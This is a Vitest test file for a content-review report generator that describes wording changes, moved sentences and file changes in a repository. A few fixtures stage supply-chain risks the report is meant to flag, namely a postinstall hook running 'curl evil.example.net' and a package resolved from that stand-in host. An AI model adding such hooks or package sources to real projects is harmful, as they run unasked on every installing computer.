/** A report is short: what repeats is counted, what is long is outlined; all of it is there when asked for. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { toMarkdown, toTerminalLines } from '../../src/authoring/review/format-report.ts';
import { describePath } from '../../src/authoring/content-files/problem.ts';
import { compareRevisions } from '../../src/authoring/review/make-report.ts';
import { commitAll, createRepository, git } from '../support/repository.ts';
import { type ContentEdit, validTexts } from '../support/valid-texts.ts';
import { changeLines, page, reportOn, rewording, scenario, secondForm } from './edit-case.ts';

const legend = '[-Words in these brackets-] are gone, {+words in these+} are new.';

const listOf = (...items: string[]): ContentEdit => [
  page,
  '          - Listen first.\n          - Ask **open** questions.\n',
  items.map((item) => `          - ${item}\n`).join(''),
];

describe('the same replacement in several places', () => {
  const items = ['Ask the mentee.', 'Thank the mentee.', 'Call the mentee now.', 'Wait for the mentee.'];
  const edit: ContentEdit[] = items.map((item) => [
    page,
    item,
    item === 'Wait for the mentee.' ? 'Wait for nobody.' : item.replace('mentee', 'learner'),
  ]);

  test('is one entry with a count and every sentence, and others are shown with a mark', () => {
    expect(changeLines(edit, [listOf(...items)])).toEqual([
      '= Role-plays (content/resources/role-plays.yaml)',
      'changed:  Afterwards › list › item “Wait for nobody.”, line 31',
      '    | Wait for [-the mentee.-] {+nobody.+}',
      '',
      '= The same change in several places',
      'changed:  [-mentee-] {+learner+}, 3 ×',
      '    | content/resources/role-plays.yaml, line 28: Ask the [-mentee.-] {+learner.+}',
      '    | content/resources/role-plays.yaml, line 29: Thank the [-mentee.-] {+learner.+}',
      '    | content/resources/role-plays.yaml, line 30: Call the [-mentee-] {+learner+} now.',
    ]);
  });

  test('is counted with that at the beginning of a sentence, but keeps the capital letters of names', () => {
    const before = listOf('Ask Kim. Somebody knows.', 'Call Kim, and somebody.', 'Thank Kim and somebody.');
    const lines = (from: RegExp, to: string) =>
      changeLines(
        ['Ask Kim. Somebody knows.', 'Call Kim, and somebody.', 'Thank Kim and somebody.'].map(
          (item): ContentEdit => [
            page,
            item,
            item.replace(from, (word) => (/^S/.test(word) ? `S${to.slice(1)}` : to)),
          ],
        ),
        [before],
      );
    expect(lines(/somebody/i, 'someone').join('\n')).toContain('[-somebody-] {+someone+}, 3 ×');
    expect(lines(/Kim/, 'Lee').join('\n')).toContain('[-Kim-] {+Lee+}, 3 ×');
  });

  test('is a line for each place in the full report', () => {
    expect(changeLines(edit, [listOf(...items)], true)).toHaveLength(9);
  });
});

describe('long texts', () => {
  const numberedWords = (count: number, word = 'word') =>
    Array.from({ length: count }, (_, index) => `${word}${index}`).join(' ');

  test('show only the new part if a part was inserted', () => {
    const long = numberedWords(1500);
    const inserted = `${numberedWords(700)} inserted here ${numberedWords(1500).split(' ').slice(700).join(' ')}`;
    const lines = changeLines([[page, long, inserted]], [[page, 'Look back together.', long]]);
    expect(lines.at(-1)).toMatch(/\| \[…\] (?:word69\d ){5}\{\+inserted here\+\} (?:word70\d ){5}\[…\]$/);
  });

  test('that were added are shortened to their first words, except in the full report; what is gone is whole', () => {
    const section = `  - id: more\n    title: More\n    blocks:\n      - kind: prose\n        text: ${numberedWords(420)}\n`;
    const addSection: ContentEdit = [page, 'sections:\n', `sections:\n${section}`];
    expect(changeLines([addSection]).at(-2)).toMatch(/: \{\+word0 .* word29 … \(420 words\)\+\}$/);
    expect(changeLines([addSection]).at(-1)).toMatch(
      /- Read all 42\d words under “Files changed”, in content\/resources\/\S+\.yaml\.$/,
    );
    expect(changeLines([addSection], [], true).at(-1)).toContain('word419');
    const removeSection: ContentEdit = [page, section, ''];
    expect(changeLines([removeSection], [addSection]).at(-1)).toContain('word419');
    expect(changeLines([removeSection], [addSection], true).at(-1)).toContain('word419');
  });

  test('that were added are shown complete up to four hundred words, without ids', () => {
    const addProse: ContentEdit = [
      page,
      'sections:\n',
      `sections:\n  - id: more\n    title: More\n    blocks:\n      - kind: prose\n        text: ${numberedWords(395)}\n`,
    ];
    expect(changeLines([addProse]).at(-1)).toContain('word394');
    expect(changeLines([addProse]).join('\n')).not.toContain('more');
  });

  test('of a new role-play have a line each, and short ones share a line', () => {
    const text = validTexts().get(`content/${scenario}`) ?? '';
    const lines = changeLines([
      { write: 'scenarios/long.yaml', text: text.replace(/knows: .*/, `knows: ${numberedWords(20)}`) },
    ]);
    expect(lines.some((line) => /\| \{\+difficulty: \w+ \/ context: /.test(line))).toBe(true);
    expect(
      lines.some((line) =>
        /\| briefing: \{\+part: .* ¶ what this person knows: word0 .* word19 ¶ /.test(line),
      ),
    ).toBe(true);
    expect(lines.join('\n')).not.toContain('title:');
  });

  test('of a new page are shown as an outline of its sections', () => {
    if (Array.isArray(secondForm) || !('text' in secondForm)) throw new Error('The form is a file.');
    const text = secondForm.text.replace(
      '    title: Aims\n',
      `    title: Aims\n    intro: ${numberedWords(410)}\n`,
    );
    const lines = changeLines([{ write: 'resources/plan.yaml', text }]);
    expect(lines).toContain('    - section "Aims": 1 block, 412 words');
    expect(lines.join('\n')).not.toContain('word409');
  });
});

test('exchanged cells of a table are one change of their row, not a new order', () => {
  const lines = changeLines([[page, '[Reading, "10"]', '["10", Reading]']]);
  expect(lines.slice(1)).toEqual([
    expect.stringMatching(/^changed: .* › table “Times” › row “10”, line \d+$/),
    expect.stringMatching(/ column “Part”: \[-Reading-\] \{\+10\+\}$/),
    expect.stringMatching(/ column “Minutes”: \[-10-\] \{\+Reading\+\}$/),
  ]);
});

test('addresses are shown complete, before and after', () => {
  expect(
    changeLines([[page, '(https://example.org/handbook)', '(https://example.com/handbook)']], [], true).at(
      -1,
    ),
  ).toContain(
    '[-[the handbook](https://example.org/handbook)-] {+[the handbook](https://example.com/handbook)+}',
  );
  const bareHost: ContentEdit = [page, 'Look back together.', 'Log in at goals.example.net today.'];
  expect(changeLines([[page, 'goals.example.net', 'goals-login.example.net']], [bareHost]).at(-2)).toContain(
    'Log in at [-goals.example.net-] {+goals-login.example.net+} today.',
  );
});

test('a placeholder is shown complete', () => {
  const label: ContentEdit = [page, 'Look back together.', 'Look back at {period} together.'];
  expect(changeLines([[page, '{period}', '{year}']], [label]).slice(-3)).toEqual([
    expect.stringContaining('at [-{period}-] {+{year}+} together'),
    '    - {period} is no longer shown.',
    '    - {year} is new here. Ask a developer for the value.',
  ]);
});

test('of many sentences to check, five are shown and the others counted', () => {
  const mentions = Array.from({ length: 9 }, (_, index) => `Item ${index} is due in August.`);
  const edit: ContentEdit[] = [
    ['phases.yaml', 'months: [July]', 'months: [July, August]'],
    ['phases.yaml', 'months: [August, September]', 'months: [September]'],
  ];
  const linesOf = (isFull: boolean) => {
    const lines = toTerminalLines(reportOn({ before: [listOf(...mentions)], edit }), { isFull });
    return lines.slice(lines.indexOf('WHAT FOLLOWS FROM IT') + 1);
  };
  expect(linesOf(false)).toEqual([
    'The phase of August changed. Check these 9 sentences',
    ...mentions
      .slice(0, 5)
      .map((text, index) => `    | content/resources/role-plays.yaml:${28 + index}: ${text}`),
    '    - and 4 more sentences',
  ]);
  expect(linesOf(true)).toHaveLength(10);
});

describe('of files that are not content', () => {
  const root = () => {
    const folder = createRepository();
    writeFileSync(join(folder, 'a.test.ts'), 'test();\n');
    writeFileSync(join(folder, 'logo.png'), Buffer.from([0, 1, 2]));
    writeFileSync(
      join(folder, 'package-lock.json'),
      '{"packages":{"a":{"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}\n',
    );
    commitAll(folder, 'Files');
    return folder;
  };
  const fileLines = (folder: string) =>
    toTerminalLines(compareRevisions(folder, 'main~1', 'main')).filter((line) => line.startsWith('    - '));

  test('a deleted file is called deleted, a new one new and a replaced picture replaced', () => {
    const folder = root();
    git(folder, 'rm', '--quiet', 'a.test.ts');
    writeFileSync(join(folder, 'logo.png'), Buffer.from([0, 3]));
    writeFileSync(join(folder, 'b.ts'), 'x();\n');
    commitAll(folder, 'Change');
    expect(fileLines(folder).toSorted()).toEqual([
      '    - a.test.ts deleted',
      '    - b.ts new, +1',
      '    - logo.png replaced, which is not text',
    ]);
  });

  test('a package from another host names the host', () => {
    const folder = root();
    writeFileSync(
      join(folder, 'package-lock.json'),
      '{"packages":{"a":{"resolved":"https://evil.example.net/a/-/a-1.0.0.tgz"}}}\n',
    );
    writeFileSync(join(folder, 'package.json'), '{"dependencies":{"b":"github:someone/b"}}\n');
    commitAll(folder, 'Change');
    expect(fileLines(folder)).toEqual([
      '    - New source of packages: evil.example.net. (package-lock.json +1 −1)',
      '    - New source of packages: github:someone/b (b). (package.json new, +1)',
    ]);
  });

  test('a command, a workflow and a published file say what they can do', () => {
    const folder = root();
    writeFileSync(join(folder, 'package.json'), '{"scripts":{"postinstall":"curl evil.example.net"}}\n');
    mkdirSync(join(folder, '.github/workflows'), { recursive: true });
    writeFileSync(join(folder, '.github/workflows/new.yml'), 'on: push\n');
    mkdirSync(join(folder, 'public'));
    writeFileSync(join(folder, 'public/new.js'), 'fetch();\n');
    commitAll(folder, 'Change');
    expect(fileLines(folder)).toEqual([
      '    - Runs with the rights of this repository. (.github/workflows/new.yml new, +1)',
      '    - New or changed commands: postinstall: curl evil.example.net, which runs by itself on every computer that installs the project. (package.json new, +1)',
      '    - Is published as it is. (public/new.js new, +1)',
    ]);
  });
});

test('an item of a list without a singular noun is named by the key of the list and its position', () => {
  const file = { kind: 'programme' as const, data: { guide: { usageSteps: ['a', 'b'], activities: ['c'] } } };
  expect(describePath(file, ['guide', 'usageSteps', 1])).toBe('guide › usageSteps[2]');
  expect(describePath(file, ['guide', 'activities', 0])).toBe('guide › activities[1]');
  expect(describePath({ ...file, data: { features: ['a', 'b'] } }, ['features', 1])).toBe('2nd feature');
});

describe('a difference is marked', () => {
  const mark = (before: string, after: string) =>
    changeLines(
      [[page, `intro: '${before}'`, `intro: '${after}'`]],
      [[page, 'intro: Look back together.', `intro: '${before}'`]],
      true,
    )
      .find((line) => line.startsWith('    | '))
      ?.replace(/^ {4}\| /, '');

  test.each([
    [
      'all of a link of which the words differ',
      'Then [make yours precise](/resources/worksheet) alone.',
      'Then [make your goal precise](/resources/worksheet) alone.',
      'Then [-[make yours precise](/resources/worksheet)-] {+[make your goal precise](/resources/worksheet)+} alone.',
    ],
    [
      'all of a link of which the address differs',
      'Then open [the form](/resources/worksheet#goal) alone.',
      'Then open [the form](/resources/worksheet) alone.',
      'Then open [-[the form](/resources/worksheet#goal)-] {+[the form](/resources/worksheet)+} alone.',
    ],
  ])('%s', (_, before, after, marked) => {
    expect(mark(before, after)).toBe(marked);
  });
});

test('a report explains the marks that it contains before the first of them', () => {
  const linesOf = (edit: ContentEdit[]) => toTerminalLines(reportOn({ edit }));
  const lines = linesOf([[page, 'Look back together.', 'Look back alone.']]);
  expect(lines.indexOf(legend)).toBeGreaterThan(0);
  expect(lines.indexOf(legend)).toBeLessThan(lines.indexOf('PAGE BY PAGE'));
  expect(linesOf([[page, 'inGuide: false', '# A comment.\ninGuide: false']]).join('\n')).not.toContain(
    legend,
  );
});

test('the mark for unchanged text is explained in the line about marks, but only if it is used', () => {
  const rest = 'Nothing differs in this sentence, which is only here to make the text long. '.repeat(5);
  const [edit, before] = rewording(page, 'Look back together.', `${rest}Go home.`, `${rest}Go to bed.`);
  const lines = toTerminalLines(reportOn({ before, edit }));
  expect(lines).toContain(`${legend} […] stands for unchanged text.`);
  expect(toMarkdown(reportOn({ before, edit }))).toContain('<blockquote><i>[…]</i> Nothing differs');
  expect(toTerminalLines(reportOn({ edit: [[page, 'Look back together.', 'Look ahead.']] }))).toContain(
    legend,
  );
});

describe('a line of the report', () => {
  const linesOf = (edit: ContentEdit[], before: ContentEdit[] = []) =>
    toTerminalLines(reportOn({ before, edit }));

  test('says that two sections exchanged their ids, and nothing of an order that visitors do not see', () => {
    const lines = linesOf([
      [page, '  - id: scenarios\n', '  - id: temporary\n'],
      [page, '  - id: afterwards\n', '  - id: scenarios\n'],
      [page, '  - id: temporary\n', '  - id: afterwards\n'],
    ]);
    expect(lines.slice(lines.indexOf('PAGE BY PAGE') + 1)).toEqual([
      '',
      '= Role-plays (content/resources/role-plays.yaml)',
      'ids exchanged: The ids of Scenarios and Afterwards were exchanged (scenarios → afterwards, afterwards → scenarios). Visitors read the same texts in the same order (content/resources/role-plays.yaml, line 10).',
    ]);
  });

  test('names the list of a removed item with its former line, and the line in which a text differs', () => {
    expect(linesOf([[page, '          - Listen first.\n', '']]).slice(-2)).toEqual([
      expect.stringMatching(/^removed: .*› list, was line 28$/),
      '    | [-Listen first.-]',
    ]);
    const text = '          Then read [the handbook]';
    const changedLine = linesOf([[page, text, text.replace('Then', 'Now')]]).find((line) =>
      line.startsWith('changed:'),
    );
    expect(changedLine).toMatch(/, line 25$/);
  });

  test('names minutes as minutes', () => {
    expect(
      linesOf(
        [[page, 'minutes: 20', 'minutes: 45']],
        [[page, 'inGuide: false', 'inGuide: false\nminutes: 20']],
      ),
    ).toContainEqual(expect.stringContaining('[-20-] {+45+} minutes'));
  });
});

describe('long and repeated changes', () => {
  const linesOf = (edit: ContentEdit[], before: ContentEdit[] = []) =>
    toTerminalLines(reportOn({ before, edit }));

  test('a sentence that moved to another text is shown once, with its origin', () => {
    const sentence = ' Offer one thing that you can arrange.';
    const lines = linesOf(
      [
        [page, sentence, ''],
        [page, '- Listen first.', `- Listen first.${sentence}`],
      ],
      [[page, 'Look back together.', `Look back together.${sentence}`]],
    );
    expect(lines.slice(-3)).toEqual([
      expect.stringMatching(
        /^changed: +Afterwards › list › item “Listen first. Offer one thing that …”, line \d+$/,
      ),
      '    | Listen first. (moved here, same words) Offer one thing that you can arrange.',
      '    - Moved here from Afterwards › introduction',
    ]);
  });

  test('items of a list in another order that were divided are not shown again', () => {
    const [node, partition] = ['A node is a machine.', 'A partition is a part of the data.'];
    const cache = 'A cache keeps answers for a short time.';
    const before = listOf(`${node} ${partition}`, cache);
    if (!Array.isArray(before)) throw new Error('The list is an edit of a text.');
    const [, , earlier = ''] = before;
    const later = [cache, node, partition].map((item) => `          - ${item}\n`).join('');
    const lines = linesOf([[page, String(earlier), later]], [before]);
    expect(lines.filter((line) => /^\w+: /.test(line) && !/^(?:Format|Compared)/.test(line))).toEqual([
      expect.stringMatching(/^reordered: .*: The list is in alphabetical order now\.$/),
    ]);
  });

  test('a long insertion is shown whole', () => {
    const insertion = Array.from({ length: 200 }, (_, index) => `word${index}`).join(' ');
    const text = linesOf([[page, 'Look back together.', `Look back ${insertion} together.`]]).join('\n');
    expect(text).toContain(insertion);
  });

  test('the same change in a few texts shows the sentence once, and each place', () => {
    const sentence = 'The mentee decides which answers the mentor sees.';
    const places: [file: string, text: string][] = [
      ['resources/worksheet.yaml', 'Choose one goal.'],
      [page, 'Look back together.'],
      ['programme.yaml', 'The phase of this month is open.'],
    ];
    const before = places.map(([file, text]): ContentEdit => [file, text, sentence]);
    const edit = places.map(([file]): ContentEdit => [
      file,
      sentence,
      sentence.replace('sees.', 'sees, and deletes the rest.'),
    ]);
    const lines = linesOf(edit, before);
    expect(lines[0]).toMatch(/^3 changes\./);
    expect(lines.slice(-2)).toEqual([
      '    | The mentee decides which answers the mentor [-sees.-] {+sees, and deletes the rest.+}',
      '    - The same change in 2 other places: Role-plays › Afterwards › introduction and Worksheet › introduction',
    ]);
  });
});

describe('the sentences of a text', () => {
  const intro = 'Look back together.';
  const linesOf = (before: string, after: string) =>
    changeLines(...rewording(page, intro, before, after)).filter((line) => !line.startsWith('= '));

  test('that changed and moved are shown with their new place', () => {
    const story = 'Elena has promised the report to a customer. She shows it on Friday at noon.';
    const before = `${story} You play Elena in this scene, and I play Sam. Speak as the person in the scene.`;
    const after = `You play Elena in this scene. I play Sam. Speak as the person in the scene. ${story}`;
    const [, ...lines] = linesOf(before, after);
    expect(lines).toEqual([
      '    | (3 sentences moved here from the end of this text) You play Elena in this [-scene, and-] {+scene.+} I play Sam. Speak as the person in the scene. Elena has promised the report to a customer. She shows it on Friday at noon.',
    ]);
  });

  test('of which many differ are compared one by one', () => {
    const fruits = ['apples', 'berries', 'cherries', 'dates', 'elderberries', 'figs'];
    const before = fruits.map((fruit) => `Bring ${fruit} from the ${fruit} market.`).join(' ');
    const after = before.replaceAll('market', 'garden');
    expect(linesOf(before, after).slice(1)).toEqual([
      `    | ${fruits.map((fruit) => `Bring ${fruit} from the ${fruit} [-market.-] {+garden.+}`).join(' ')}`,
    ]);
  });
});

test('a sentence that moved to another text and was reworded is one change, with its origin', () => {
  const sentence = 'Which alert would have shown it before noon?';
  const lines = changeLines(
    [
      [page, ` ${sentence}`, ''],
      [page, '- Listen first.', '- Listen first. Which alert would have shown the fault before noon?'],
    ],
    [[page, 'Look back together.', `Look back together. ${sentence}`]],
  );
  expect(lines.slice(1)).toEqual([
    'changed:  Afterwards › list › item “Listen first. Which alert would have …”, line 28',
    '    | Listen first. (moved here) Which alert would have shown [-it-] {+the fault+} before noon?',
    '    - Moved here from Afterwards › introduction',
  ]);
});

test('a section that got a button is folded now', () => {
  expect(
    changeLines([[page, '    title: Afterwards\n', '    title: Afterwards\n    opener: Read more\n']]).at(-1),
  ).toMatch(/^folded now: Afterwards, line \d+: Visitors open it with the button Read more\.$/);
});

test('the number of changes is that of the changes shown', () => {
  const sentence = ' Offer one thing that you can arrange.';
  const lines = toTerminalLines(
    reportOn({
      before: [[page, 'Look back together.', `Look back together.${sentence}`]],
      edit: [
        [page, sentence, ''],
        [page, '- Listen first.', `- Listen first.${sentence}`],
      ],
    }),
  );
  expect(lines[0]).toMatch(/^1 change\. Visitors see it on /);
});
